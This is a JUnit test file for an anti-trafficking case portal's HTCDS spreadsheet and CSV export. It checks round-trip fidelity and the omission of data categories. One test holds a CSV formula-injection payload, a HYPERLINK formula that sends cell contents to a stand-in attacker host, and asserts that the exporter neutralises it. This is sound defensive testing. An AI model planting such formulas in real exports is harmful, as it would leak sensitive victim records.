package rs.astra.nrm.exchange;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.time.LocalDate;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;
import rs.astra.nrm.casefile.CaseStatus;
import rs.astra.nrm.casefile.DataCategory;
import rs.astra.nrm.casefile.ForcedLabourIndustry;
import rs.astra.nrm.casefile.Gender;
import rs.astra.nrm.casefile.MethodOfControl;
import rs.astra.nrm.casefile.MethodOfRecruitment;
import rs.astra.nrm.casefile.ReferralReason;
import rs.astra.nrm.casefile.TraffickingStatus;
import rs.astra.nrm.casefile.TraffickingStatusDecisionMakingOrg;
import rs.astra.nrm.casefile.TypeOfExploitation;
import rs.astra.nrm.casefile.TypeOfSexExploitation;

/**
 * What the portal exports in the HTCDS format, the importer's reader reads back unchanged: in the
 * IOM template and as CSV; and a category left out is absent from the file.
 */
class HtcdsExportRoundTripTest {

  private final HtcdsSpreadsheetWriter writer = new HtcdsSpreadsheetWriter();

  static HtcdsCaseRecord full(int row) {
    return new HtcdsCaseRecord(
        row,
        "ngo.caseworker1",
        "Ms",
        "Јелена",
        "Petrović, \"Jeca\"",
        Boolean.TRUE,
        LocalDate.of(2004, 2, 29),
        Gender.Feminine,
        Set.of("RS", "BA"),
        null,
        "jelena@example.org",
        "+381 11 123",
        "+381 60 555 0101",
        "Bulevar 1",
        "Beograd",
        "Grad Beograd",
        "11000",
        "RS",
        TraffickingStatus.ActualVictimOfTrafficking,
        TraffickingStatusDecisionMakingOrg.NonPoliceGovernmentalOrganization,
        EnumSet.of(
            MethodOfRecruitment.ThroughFriendsOrSocialEvents,
            MethodOfRecruitment.ThroughOnlineSocialNetworks),
        "Novi Sad",
        EnumSet.of(MethodOfControl.DebtBondage, MethodOfControl.RestrictsMovement),
        EnumSet.of(TypeOfExploitation.SexualExploitation, TypeOfExploitation.ForcedLabour),
        ForcedLabourIndustry.A_AgricultureForestryAndFishing,
        EnumSet.of(TypeOfSexExploitation.Prostitution),
        "Beč; Austrija",
        CaseStatus.Active,
        "SOS telefon",
        LocalDate.of(2024, 3, 1),
        "Ana A.",
        ReferralReason.AdditionalServicesRequired,
        "Poziv na SOS liniju, \"hitno\"; dva reda spojena",
        "Centar za socijalni rad Niš",
        null,
        ReferralReason.Other,
        LocalDate.of(2024, 3, 5),
        "smeštaj",
        null);
  }

  static HtcdsCaseRecord sparse(int row) {
    return new HtcdsCaseRecord(
        row,
        "ngo.caseworker2",
        null,
        null,
        null,
        null,
        null,
        null,
        Set.of(),
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        Set.of(),
        null,
        Set.of(),
        Set.of(),
        null,
        Set.of(),
        null,
        CaseStatus.Closed,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        null,
        "Reintegrisana");
  }

  /** Records equal except for the row number, which belongs to the file. */
  private static void assertSameCases(
      List<HtcdsCaseRecord> expected, List<HtcdsCaseRecord> actual) {
    assertEquals(expected.size(), actual.size());
    for (int i = 0; i < expected.size(); i++) {
      HtcdsCaseRecord e = expected.get(i);
      HtcdsCaseRecord a = actual.get(i);
      for (HtcdsField field : HtcdsField.values()) {
        assertEquals(
            HtcdsSpreadsheetWriter.valueOf(field, e),
            HtcdsSpreadsheetWriter.valueOf(field, a),
            "case " + i + " " + field.htcdsName());
      }
    }
  }

  @Test
  void aWorkbookWrittenIntoTheTemplateReadsBackAsTheSameCases() throws Exception {
    List<HtcdsCaseRecord> cases = List.of(full(0), sparse(0), full(0));
    byte[] xlsx = writer.workbook(cases);
    List<HtcdsCaseRecord> read =
        TestFiles.reader().read(new ByteArrayInputStream(xlsx), "export.xlsx");
    assertSameCases(cases, read);
    assertEquals(
        List.of(3, 4, 5),
        read.stream().map(HtcdsCaseRecord::rowNumber).toList(),
        "data starts under the template's two header rows");
  }

  @Test
  void aCsvWithHtcdsFieldNamesReadsBackAsTheSameCases() throws Exception {
    List<HtcdsCaseRecord> cases = List.of(sparse(0), full(0));
    byte[] csv = writer.csv(cases);
    String text = new String(csv, java.nio.charset.StandardCharsets.UTF_8);
    assertTrue(
        text.startsWith("\uFEFFcas_CaseOwner,prs_Salutation,prs_FirstName,"),
        text.substring(0, 60));
    assertSameCases(cases, TestFiles.reader().read(new ByteArrayInputStream(csv), "export.csv"));
  }

  @Test
  void textThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextAndReadsBackUnchanged()
      throws Exception {
    String formula = "=HYPERLINK(\"http://evil.example/?\"&E2,\"Klik\")";
    HtcdsCaseRecord hostile =
        new HtcdsCaseRecord(
            0,
            "ngo.caseworker1",
            "Ms",
            formula,
            "@SUM(1+1)",
            Boolean.TRUE,
            LocalDate.of(2004, 2, 29),
            Gender.Feminine,
            Set.of("RS"),
            null,
            null,
            "+381 11 123",
            "+381 60 555 0101",
            "-Bulevar 1",
            "Beograd",
            null,
            null,
            "RS",
            null,
            null,
            Set.of(),
            null,
            Set.of(),
            EnumSet.of(TypeOfExploitation.ForcedLabour),
            null,
            Set.of(),
            null,
            CaseStatus.Active,
            null,
            null,
            null,
            null,
            "-3",
            null,
            null,
            null,
            null,
            null,
            null);
    byte[] csv = writer.csv(List.of(hostile));
    String text = new String(csv, java.nio.charset.StandardCharsets.UTF_8);
    assertTrue(text.contains(",\"'=HYPERLINK("), "the formula is marked as text: " + text);
    assertTrue(text.contains(",'@SUM(1+1),"), text);
    assertTrue(
        text.contains(",'+381 60 555 0101,"),
        "a phone number with + would be evaluated too: " + text);
    assertSameCases(
        List.of(hostile), TestFiles.reader().read(new ByteArrayInputStream(csv), "export.csv"));
  }

  @Test
  void fieldsOfACategoryLeftOutAreEmptyInTheFile() throws Exception {
    HtcdsCaseRecord onlySummaryAndIdentity =
        HtcdsSpreadsheetWriter.keepOnly(
            full(0), c -> c == DataCategory.CASE_SUMMARY || c == DataCategory.IDENTITY);
    HtcdsCaseRecord read =
        TestFiles.reader()
            .read(
                new ByteArrayInputStream(writer.workbook(List.of(onlySummaryAndIdentity))),
                "x.xlsx")
            .getFirst();
    assertEquals("Јелена", read.firstName());
    assertEquals(Set.of("BA", "RS"), read.citizenship());
    assertEquals(
        Set.of(TypeOfExploitation.SexualExploitation, TypeOfExploitation.ForcedLabour),
        read.typeOfExploitation());
    assertNull(read.mobilePhone(), "CONTACT left out");
    assertNull(read.mailingCity());
    assertTrue(read.methodsOfControl().isEmpty(), "EXPLOITATION left out");
    assertNull(read.incomingReferralDetails());
    for (HtcdsField field : HtcdsField.values()) {
      Object value = HtcdsSpreadsheetWriter.valueOf(field, read);
      boolean empty = value == null || value instanceof java.util.Collection<?> c && c.isEmpty();
      if (field.category() == DataCategory.CONTACT
          || field.category() == DataCategory.EXPLOITATION) {
        assertTrue(empty, field.htcdsName());
      }
    }
  }
}
